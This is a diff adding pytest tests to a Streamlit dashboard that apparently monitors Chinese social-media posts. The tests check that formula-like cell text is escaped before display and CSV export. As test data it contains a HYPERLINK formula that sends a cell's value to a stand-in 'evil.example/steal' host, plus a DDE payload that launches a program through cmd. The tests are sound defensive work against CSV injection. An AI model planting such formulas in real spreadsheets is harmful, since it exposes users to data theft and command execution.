@@ -205,3 +205,34 @@ def test_missing_sample_post_is_named_in_chinese(filled):
     pick = next(i for i in at.selectbox(key="alert_pick").options if "样例缺失" in i)
     at.selectbox(key="alert_pick").select(pick).run()
     assert any("知乎 gone（帖子不在库中）" in c.value.replace("\\", "") for c in at.caption)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"电信断网点此查看")'
+
+
+def test_a_post_that_starts_like_a_formula_is_exported_as_text(filled):
+    from tests.dashboard.conftest import _post
+
+    filled.upsert_posts([_post(NOW, 90, "weibo", "中国电信", "negative", 1, text=FORMULA)])
+    at = on_page("viewer", "search")
+    at.text_input(key="search_q").input("HYPERLINK").run()
+    [cell] = list(at.dataframe[0].value["内容"])
+    assert cell == "'" + FORMULA  # the table's download button exports what the table holds
+    overview = on_page("viewer", "overview")
+    latest = [c for frame in overview.dataframe for c in frame.value.get("内容", [])]
+    assert "'" + FORMULA in latest and FORMULA not in latest
+
+
+def test_spreadsheet_safe_cells() -> None:
+    import pandas as pd
+
+    from dashboard.cells import safe_frame, spreadsheet_safe
+    from dashboard.reports import to_csv
+
+    for bad in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "\r=1"):
+        assert spreadsheet_safe(bad) == "'" + bad
+    for fine in ("电信断网", "-35.7%", "+12", "-3", 42, None, "a=b"):
+        assert spreadsheet_safe(fine) == fine
+    frame = pd.DataFrame({"内容": ["=1+1", "ok"], "数量": [1, 2]})
+    assert list(safe_frame(frame)["内容"]) == ["'=1+1", "ok"] and list(frame["内容"]) == ["=1+1", "ok"]
+    assert b"'=1+1" in to_csv(frame)
